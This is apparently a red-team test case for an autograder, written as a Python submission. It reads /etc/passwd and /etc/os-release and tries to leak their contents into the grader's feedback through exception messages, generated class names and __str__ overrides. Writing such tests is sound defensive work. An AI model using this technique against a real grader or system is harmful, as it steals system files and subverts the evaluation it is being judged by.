"""Red team 82_exfiltrate_what_it_read.

Attack: Read world-readable system files (/etc/passwd, /etc/os-release) and try to get them into
the feedback: exception messages, exception class names, returned values' class names and
bases, a __str__ that returns them, and a short answer of a class named after them.

Deserves: the short answers except Q2 (6): no text chosen by the submission reaches the feedback.
"""

# --------------------------------------------------------------------------------------------
# The reference answers and functions (honest part of this file):
# <<the reference solution, solutions/a2.py, is inserted here by redteam_catalog>>

# --------------------------------------------------------------------------------------------
# The attack.
# --------------------------------------------------------------------------------------------
def _read(path):
    try:
        with open(path) as handle:
            return handle.read(400)
    except OSError:
        return "nothing"


_loot = _read("/etc/passwd") + _read("/etc/os-release")
_Error = type("E_" + _loot.split(":")[0] + "_" + str(len(_loot)), (ValueError,),
              {"__str__": lambda self: _loot})
_Value = type(_loot[:60], (list,), {})


def receptive_field(layers):
    raise _Error(_loot)


def transposed_conv2d(x, kernel, stride=1, padding=0, dilation=1):
    if stride == 1:
        return type(_loot.splitlines()[0][:60], (), {"__str__": lambda self: _loot})()
    return _Value([[0.5]])


Q2 = type(_loot.splitlines()[0][:60], (), {"__str__": lambda self: _loot})()
